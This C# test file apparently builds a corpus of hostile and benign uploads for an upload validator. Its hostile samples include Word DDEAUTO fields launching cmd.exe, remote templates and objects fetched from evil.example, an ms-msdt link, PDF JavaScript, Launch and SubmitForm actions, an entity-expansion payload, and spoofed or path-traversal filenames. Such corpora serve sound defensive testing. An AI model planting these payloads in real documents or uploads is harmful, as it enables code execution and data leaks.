using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Colloque.Tests.Files;

/// <summary>A file as somebody sends it.</summary>
/// <param name="Title">What is the matter with it.</param>
/// <param name="Name">What it is called.</param>
/// <param name="MimeType">What it is said to be.</param>
/// <param name="Content">What it is.</param>
internal sealed record CorpusFile(string Title, string Name, string MimeType, byte[] Content);

/// <summary>Files made to get past the checks, and files of everyday that must get through. All are made here.</summary>
internal static class Corpus
{
    private const string PdfType = "application/pdf";
    private const string DocType = "application/msword";
    private const string DocxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private const string W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";

    internal static IEnumerable<CorpusFile> Hostile =>
    [
        .. HostileWord.Select(static h => new CorpusFile(h.Title, "letter.docx", DocxType, h.Content)), .. HostileDoc.Select(static h => new CorpusFile(h.Title, "letter.doc", DocType, h.Content)),
        .. HostilePdf.Select(static h => new CorpusFile(h.Title, "letter.pdf", PdfType, h.Content)), .. HostileSound, .. HostilePictures, .. HostileNames,
    ];

    internal static IEnumerable<CorpusFile> Good =>
    [
        .. GoodWord.Select(static g => new CorpusFile(g.Title, "letter.docx", DocxType, g.Content)), .. GoodDoc.Select(static g => new CorpusFile(g.Title, "letter.doc", DocType, g.Content)),
        .. GoodPdf.Select(static g => new CorpusFile(g.Title, "letter.pdf", PdfType, g.Content)), .. GoodSound, .. GoodPictures, .. GoodNames,
    ];

    private static IEnumerable<(string Title, byte[] Content)> HostileWord =>
    [
        ("a field that starts a program", Docx(Field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""))),
        ("the same, asked for", Docx(Field("DDE excel x y"))),
        ("the same in small letters and after spaces", Docx(Field("  ddeAuto c:\\\\x"))),
        ("the same between quotes", Docx(Field("\"DDEAUTO\" c:\\\\x"))),
        ("the same in one element", Docx("<w:fldSimple w:instr=' DDEAUTO \"cmd\" \"/c x\" '/>")),
        ("the same, one letter a run", Docx(Begin + string.Concat("DDEAUTO x".Select(static c => Told(c.ToString()))) + End)),
        ("the same, split by a run of another kind", Docx(Begin + Told("DDE") + "<w:r><w:rPr><w:b/></w:rPr></w:r>" + Told("AUTO cmd") + End)),
        ("a field whose name comes out of another", Docx(Begin + Begin + Told("QUOTE 68 68 69 65 85 84 79") + Separate + Text("DDEAUTO") + End + Told(" cmd") + End)),
        ("a field in a header", Docx("", ("word/header1.xml", Part("hdr", Field("DDEAUTO cmd"))))),
        ("a field in a footnote", Docx("", ("word/footnotes.xml", Part("footnotes", Field("DDEAUTO cmd"))))),
        ("a field in a part of no known name", Docx("", ("word/x.xml", Part("x", Field("DDE a b"))))),
        ("a field in the other dialect's namespace", Docx("<w:fldSimple xmlns:w='http://purl.oclc.org/ooxml/wordprocessingml/main' w:instr='DDEAUTO cmd'/>")),
        ("a field in UTF-16", HostileFiles.Docx(("word/a.xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Part("x", Field("DDEAUTO cmd")))]))),
        ("a field within a field's words", Docx(Begin + Told("IF 1 = 1 ") + Begin + Told("DDEAUTO cmd") + End + End)),
        ("a picture that is fetched by a field", Docx(Field("INCLUDEPICTURE \"http://evil.example/seen.png\" \\\\d"))),
        ("a text that is fetched by a field", Docx(Field("INCLUDETEXT \"\\\\\\\\evil.example\\\\share\\\\x.docx\""))),
        ("rows that are fetched by a field", Docx(Field("DATABASE \\\\d \"c:\\\\x\""))),
        ("a link of two programs", Docx(Field("LINK Excel.Sheet.8 c:\\\\x.xls"))),
        ("a link to a share", Docx(Field("HYPERLINK \"\\\\\\\\evil.example\\\\share\""))),
        ("a link that starts a program", Docx(Field("HYPERLINK \"ms-msdt:/id PCWDiagnostic\""))),
        ("a mail merge that asks a database", Docx("", ("word/settings.xml", Part("settings", "<w:mailMerge><w:connectString w:val='Provider=x'/></w:mailMerge>")))),
        ("a template from outside", Related("attachedTemplate", "http://evil.example/t.dotm")),
        ("a template from a share", Related("attachedTemplate", "\\\\evil.example\\t.dotm")),
        ("an object from outside", Related("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html")),
        ("a frame from outside", Related("frame", "http://evil.example/")),
        ("a document within, from outside", Related("subDocument", "file:///c:/x.docx")),
        ("an embedded workbook", HostileFiles.Docx(("word/embeddings/a.xlsx", Samples.Zip("xl/workbook.xml")))),
        ("an embedded object under a picture's name", HostileFiles.Docx(("word/media/image1.emf", Samples.Doc("Root Entry", "\u0001Ole10Native")))),
        ("a package that a relationship opens", HostileFiles.Docx(("word/_rels/document.xml.rels", HostileFiles.Relations("package", "media/a.xml", "Internal")))),
        ("a control that a relationship opens", HostileFiles.Docx(("word/_rels/document.xml.rels", HostileFiles.Relations("control", "x.xml", "Internal")))),
        ("a picture of the old kind from outside", Docx("<w:pict><v:shape><v:imagedata src='http://evil.example/seen.png'/></v:shape></w:pict>")),
        ("a picture of the old kind from a share", Docx("<w:pict><v:shape><v:fill src='\\\\evil.example\\x'/></v:shape></w:pict>")),
        ("macros by their type", HostileFiles.Docx(("[Content_Types].xml.xml", Bytes("<x/>")), ("word/vbaProject.bin", [1, 2]))),
        ("an entity that grows", HostileFiles.Docx(("word/a.xml", Bytes("<!DOCTYPE a [<!ENTITY b 'bbbbbbbb'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>")))),
        ("an archive in a part", HostileFiles.Docx(("word/media/image1.png", Samples.Zip("a.exe")))),
        ("a part that leaves the package", HostileFiles.Docx(("../../startup/x.xml", Bytes("<x/>")))),
        ("a part of no end", HostileFiles.Docx(("word/big.xml", new byte[(1 << 20) + 1]))),
    ];

    private static IEnumerable<(string Title, byte[] Content)> HostileDoc =>
    [
        ("macros", Samples.Doc("Root Entry", "WordDocument", "Macros")),
        ("a packed program", Samples.Doc("Root Entry", "WordDocument", "\u0001Ole10Native")),
        ("an embedded object", Samples.Doc("WordDocument", "ObjectPool", "_1234567890")),
        ("a control", Samples.Doc("Root Entry", "WordDocument", "\u0003OCXNAME")),
        ("a workbook in the same file", Samples.Doc("Root Entry", "WordDocument", "Workbook")),
        ("a field that starts a program", Doc([0x13, .. " DDEAUTO c:\\\\windows\\\\cmd.exe"u8, 0x14])),
        ("the same in two bytes a character", Doc([0x13, 0, .. Encoding.Unicode.GetBytes(" ddeauto cmd"), 0x14, 0])),
        ("a text that is fetched", Doc([0x13, .. " INCLUDETEXT \"\\\\\\\\evil\\\\x\""u8, 0x15])),
        ("a page under the name of a document", Bytes("<html><script>alert(1)</script></html>")),
        ("a document of another kind under its name", Bytes("{\\rtf1\\object\\objdata 0105}")),
        ("a workbook under its name", Samples.Doc("Root Entry", "Workbook")),
        ("a circle of sectors", Samples.CircularDoc()),
    ];

    private static IEnumerable<(string Title, byte[] Content)> HostilePdf =>
    [
        ("a script", HostileFiles.Pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        ("a script with a name in digits", HostileFiles.Pdf("/AA << /O << /S /J#61vaScript >> >>")),
        ("a program", HostileFiles.Pdf("/OpenAction << /S /Launch /F (cmd.exe) >>")),
        ("a file within", HostileFiles.Pdf("/Names << /EmbeddedFiles 5 0 R >>")),
        ("a form of the other kind", HostileFiles.Pdf("/AcroForm << /XFA 5 0 R >>")),
        ("a script out of packed objects", HostileFiles.PackedPdf("", 5, "<< /S /JavaScript /JS (x) >>")),
        ("a form that sends itself", HostileFiles.Pdf("/OpenAction << /S /SubmitForm /F (http://evil.example) >>")),
        ("a page under its name", Bytes("<html>%PDF-1.7")),
        ("a program before it", [.. "MZ"u8, .. HostileFiles.Pdf("")]),
    ];

    private static IEnumerable<CorpusFile> HostileSound =>
    [
        new("a film as a voice message", "voice.m4a", "audio/mp4", Mp4("vide")),
        new("sound and film", "voice.m4a", "audio/mp4", Mp4("soun", "vide")),
        new("a film packed away", "voice.m4a", "audio/mp4", [.. Box("ftyp", [.. "M4A "u8, 0, 0, 0, 0]), .. Box("moov", Box("cmov", [0]))]),
        new("no track at all", "voice.m4a", "audio/mp4", Box("ftyp", [.. "M4A "u8, 0, 0, 0, 0])),
        new("a box that is longer than the file", "voice.m4a", "audio/mp4", [.. Mp4("soun"), 0, 0, 1, 0, .. "free"u8]),
        new("a picture's brand", "voice.m4a", "audio/mp4", [.. Box("ftyp", [.. "heic"u8, 0, 0, 0, 0]), .. Mp4("soun")]),
        new("a film as WebM", "voice.webm", "audio/webm", Webm(1)),
        new("sound and film as WebM", "voice.webm", "audio/webm", Webm(2, 1)),
        new("a film behind a cluster of open length", "voice.webm", "audio/webm", [.. Webm(2), 0x1F, 0x43, 0xB6, 0x75, 0xFF, 0xE7, 0x81, 0, .. Tracks(1)]),
        new("Matroska under its name", "voice.webm", "audio/webm", [0x1A, 0x45, 0xDF, 0xA3, 0x8B, 0x42, 0x82, 0x88, .. "matroska"u8, .. Segment(2)]),
        new("a film as Ogg", "voice.ogg", "audio/ogg", Page(2, [0x80, .. "theora"u8, 3, 2, 1])),
        new("sound and film as Ogg", "voice.ogg", "audio/ogg", [.. Page(2, Opus), .. Page(2, [0x80, .. "theora"u8])]),
        new("a film that begins after the sound", "voice.ogg", "audio/ogg", [.. Page(2, Opus), .. Page(4, [1]), .. Page(2, [.. "OVP80"u8, 1])]),
        new("bytes between pages", "voice.ogg", "audio/ogg", [.. Page(2, Opus), .. "junk"u8, .. Page(0, [1])]),
        new("a page under its name", "voice.ogg", "audio/ogg", Bytes("<html><script>alert(1)</script>")),
    ];

    private static IEnumerable<CorpusFile> HostilePictures =>
    [
        new("gigapixels", "a.png", "image/png", Samples.Png(50_000, 50_000)),
        new("gigapixels that unpack", "a.png", "image/png", PictureSamples.PngOf(8, 8, unpacked: 1 << 20)),
        new("a drawing with scripts", "a.png", "image/png", Bytes("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")),
        new("a page under a picture's name", "a.gif", "image/gif", [.. "GIF89a"u8, .. "/*<script>alert(1)</script>*/=1;"u8]),
        new("an archive under a picture's name", "a.jpg", "image/jpeg", Samples.Zip("a.exe")),
        new("another picture than said", "a.jpg", "image/jpeg", PictureSamples.Png),
        new("a picture cut off", "a.jpg", "image/jpeg", PictureSamples.Jpeg[..300]),
    ];

    private static IEnumerable<CorpusFile> HostileNames =>
    [
        .. (((string, string)[])
        [
            ("a program's name", "a.exe"), ("a program's name behind a document's", "a.pdf.exe"), ("a name that reads backwards", "invoice\u202Efdp.exe.pdf"), ("a path", "../../etc/passwd.pdf"),
            ("a path of the other kind", "..\\..\\x.pdf"), ("a nought", "a.exe\0.pdf"), ("a line", "a\r\nSet-Cookie: x.pdf"), ("a hidden name", ".pdf"), ("nothing", "   "),
            ("a letter that shows nothing", "a.ex\u00ADe.pdf"), ("a filler", "a.exe\u3164.pdf"), ("a blank of dots", "a.exe\u2800.pdf"), ("a joiner of words", "a\u2060.pdf"),
            ("a half character", "a\uD800.pdf"), ("a name that ends in a dot", "a.pdf."), ("a name without an end", "a"), ("a name too long", new string('a', 300) + ".pdf"), ("a drawing's", "a.svg"),
        ])
            .Select(static n => new CorpusFile(n.Item1, n.Item2, PdfType, HostileFiles.Pdf(""))),
    ];

    private static IEnumerable<(string Title, byte[] Content)> GoodWord =>
    [
        ("plain words", Docx(Text("Bonjour"))),
        ("page numbers", Docx(Field("PAGE \\\\* MERGEFORMAT"))),
        ("a table of contents", Docx(Field("TOC \\\\o \"1-3\" \\\\h \\\\z \\\\u"))),
        ("a date", Docx(Field("DATE \\\\@ \"dd/MM/yyyy\""))),
        ("a link to the web", Docx(Field("HYPERLINK \"https://good.example/page?a=b\""))),
        ("a link within", Docx(Field("HYPERLINK \\\\l \"_Toc1\""))),
        ("a link to mail", Docx(Field("HYPERLINK \"mailto:cabinet@good.example\" \\\\o \"Écrire\""))),
        ("a reference manager's notes", Docx(Field("ADDIN ZOTERO_ITEM CSL_CITATION {\"citationID\":\"x\"}"))),
        ("a place to fill in", Docx(Field("MACROBUTTON NoMacro [Nom du patient]"))),
        ("a field in a field's words", Docx(Begin + Told("IF ") + Begin + Told("MERGEFIELD Sexe") + Separate + Text("F") + End + Told(" = \"F\" \"Madame\" \"Monsieur\"") + Separate + Text("Madame") + End)),
        ("words about DDE", Docx(Text("DDEAUTO c:\\cmd is what a hostile field says"))),
        ("pictures, fonts, printer's settings", HostileFiles.Docx(("word/media/image1.png", PictureSamples.Png), ("word/fonts/font1.odttf", [1, 2, 3]), ("word/printerSettings/printerSettings1.bin", [1]))),
        ("a template of one's own", HostileFiles.Docx(("word/_rels/settings.xml.rels", HostileFiles.Relations("attachedTemplate", "Normal.dotm", "Internal")))),
        ("links to click", HostileFiles.Docx(("word/_rels/document.xml.rels", HostileFiles.Relations("hyperlink", "https://good.example/")))),
        ("a telephone", HostileFiles.Docx(("word/_rels/document.xml.rels", HostileFiles.Relations("hyperlink", "tel:+33142000000")))),
        ("a picture of the old kind, its own", Docx("<w:pict><v:shape><v:imagedata r:id='rId1' o:title='x' xmlns:o='urn:schemas-microsoft-com:office:office'/></v:shape></w:pict>")),
        ("footnotes, comments, headers", HostileFiles.Docx(("word/footnotes.xml", Bytes(Part("footnotes", Text("1")))), ("word/comments.xml", Bytes(Part("comments", Text("?")))), ("word/header1.xml", Bytes(Part("hdr", Field("NUMPAGES")))))),
    ];

    private static IEnumerable<(string Title, byte[] Content)> GoodDoc =>
    [
        ("plain words", Samples.Doc("Root Entry", "WordDocument", "1Table")),
        ("its summaries", Samples.Doc("WordDocument", "\u0005SummaryInformation", "\u0005DocumentSummaryInformation")),
        ("an empty pool of objects", Samples.Doc("WordDocument", "ObjectPool", "\u0001CompObj")),
        ("page numbers", Doc([0x13, .. " PAGE "u8, 0x14, (byte)'1', 0x15])),
        ("a link", Doc([0x13, .. " HYPERLINK \"https://good.example\" "u8, 0x14, .. "ici"u8, 0x15])),
        ("words about DDE", Doc([.. "The DDEAUTO field is refused."u8])),
    ];

    private static IEnumerable<(string Title, byte[] Content)> GoodPdf =>
    [
        ("an empty page", HostileFiles.Pdf("")),
        ("a place to open at", HostileFiles.Pdf("/OpenAction << /S /GoTo /D [ 3 0 R /Fit ] >>")),
        ("a link to click", HostileFiles.Pdf("", "5 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://good.example) >> >> endobj")),
        ("outlines and a language", HostileFiles.Pdf("/Lang (fr) /PageMode /UseOutlines")),
        ("packed objects", HostileFiles.PackedPdf("", 5, "<< /Type /Page >>", "<< /Type /Font /BaseFont /Helvetica >>")),
        ("words about scripts", HostileFiles.Pdf("", HostileFiles.Stream("", Bytes("BT (JavaScript is not run here) Tj ET")))),
    ];

    private static IEnumerable<CorpusFile> GoodSound =>
    [
        new("a recording", "voice.m4a", "audio/mp4", Recordings.M4a), new("a recording", "voice.webm", "audio/webm; codecs=opus", Recordings.Webm), new("a recording", "voice.ogg", "audio/ogg", Recordings.Ogg),
        new("sound with chapters", "voice.m4a", "audio/mp4", Mp4("soun", "text")), new("the movie at the end", "voice.m4a", "audio/mp4", [.. Box("ftyp", [.. "isom"u8, 0, 0, 0, 0]), .. Box("mdat", new byte[5_000]), .. Movie("soun")]),
        new("a recorder that did not know how long it would be", "voice.webm", "audio/webm", [.. Header, 0x18, 0x53, 0x80, 0x67, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, .. Tracks(2), 0x1F, 0x43, 0xB6, 0x75, 0x01, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xE7, 0x81, 0, 0xA3, 0x85, 0x81, 0, 0, 0x80, 1]),
        new("Vorbis with an index", "voice.oga", "audio/ogg", [.. Page(2, [.. "fishead\0"u8, 0]), .. Page(2, [1, .. "vorbis"u8, 0]), .. Page(0, new byte[600])]),
        new("a recording that breaks off", "voice.ogg", "audio/ogg", Recordings.Ogg[..^20]),
    ];

    private static IEnumerable<CorpusFile> GoodPictures =>
    [
        .. PictureSamples.All.Select(static p => new CorpusFile("a picture", "a." + (p.Type == "image/jpeg" ? "jpg" : p.Type[6..]), p.Type, p.Content)),
        .. PictureSamples.Talkative.Select(static p => new CorpusFile("a picture that talks", "a." + (p.Type == "image/jpeg" ? "JPEG" : p.Type[6..]), p.Type, p.Content)),
    ];

    private static IEnumerable<CorpusFile> GoodNames =>
    [
        .. ((string[])["Compte rendu du 3 mars.pdf", "résultats (1).pdf", "नुस्खा.pdf", "نسخه‌ی من.pdf", "処方箋.pdf", "👩🏽‍⚕️ visit.pdf", "a.b.c.pdf", "  scan   2024 .PDF ", "O'Neil \"x\" <1>.pdf", "CON.pdf"])
            .Select(static n => new CorpusFile("a name", n, PdfType, HostileFiles.Pdf(""))),
    ];

    private const string Begin = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>";
    private const string Separate = "<w:r><w:fldChar w:fldCharType='separate'/></w:r>";
    private const string End = "<w:r><w:fldChar w:fldCharType='end'/></w:r>";

    private static byte[] Opus => [.. "OpusHead"u8, 1, 1, 0, 0, 0x80, 0xBB, 0, 0, 0, 0, 0];

    private static byte[] Header => [0x1A, 0x45, 0xDF, 0xA3, 0x87, 0x42, 0x82, 0x84, .. "webm"u8];

    private static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static string Told(string told) => $"<w:r><w:instrText xml:space='preserve'>{told.Replace("<", "&lt;", StringComparison.Ordinal)}</w:instrText></w:r>";

    private static string Text(string text) => $"<w:r><w:t>{text}</w:t></w:r>";

    private static string Field(string told) => Begin + Told(told.Replace("\\\\", "\\", StringComparison.Ordinal)) + Separate + Text("shown") + End;

    private static string Part(string root, string content) => $"<w:{root} {W}>{content}</w:{root}>";

    /// <summary>A document whose body is this.</summary>
    private static byte[] Docx(string body, params (string Name, string Content)[] more)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in ((string, string)[])[("[Content_Types].xml", "<Types/>"), ("word/document.xml", Part("document", $"<w:body><w:p>{body}</w:p></w:body>")), .. more])
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(Bytes(content));
            }
        }

        return bytes.ToArray();
    }

    private static byte[] Related(string type, string target) => HostileFiles.Docx(("word/_rels/settings.xml.rels", HostileFiles.Relations(type, target)));

    /// <summary>A compound file whose text has this.</summary>
    private static byte[] Doc(byte[] text) => [.. Samples.Doc("Root Entry", "WordDocument"), .. new byte[700], .. text, .. new byte[70_000]];

    private static byte[] Box(string type, byte[] content)
    {
        var size = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(size, 8 + content.Length);
        return [.. size, .. Encoding.ASCII.GetBytes(type), .. content];
    }

    private static byte[] Movie(params string[] tracks) => Box("moov", [.. tracks.SelectMany(static t => Box("trak", Box("mdia", Box("hdlr", [.. new byte[8], .. Encoding.ASCII.GetBytes(t), .. new byte[13]]))))]);

    private static byte[] Mp4(params string[] tracks) => [.. Box("ftyp", [.. "M4A "u8, 0, 0, 0, 0]), .. Movie(tracks), .. Box("mdat", new byte[100])];

    private static byte[] Tracks(params byte[] types)
    {
        byte[] entries = [.. types.SelectMany(static t => (byte[])[0xAE, 0x86, 0xD7, 0x81, 1, 0x83, 0x81, t])];
        return [0x16, 0x54, 0xAE, 0x6B, (byte)(0x80 | entries.Length), .. entries];
    }

    private static byte[] Segment(params byte[] types) => [0x18, 0x53, 0x80, 0x67, (byte)(0x80 | Tracks(types).Length), .. Tracks(types)];

    private static byte[] Webm(params byte[] types) => [.. Header, .. Segment(types)];

    private static byte[] Page(byte flags, byte[] body)
    {
        byte[] lengths = [.. Enumerable.Repeat((byte)255, body.Length / 255), (byte)(body.Length % 255)];
        return [.. "OggS\0"u8, flags, .. new byte[20], (byte)lengths.Length, .. lengths, .. body];
    }
}
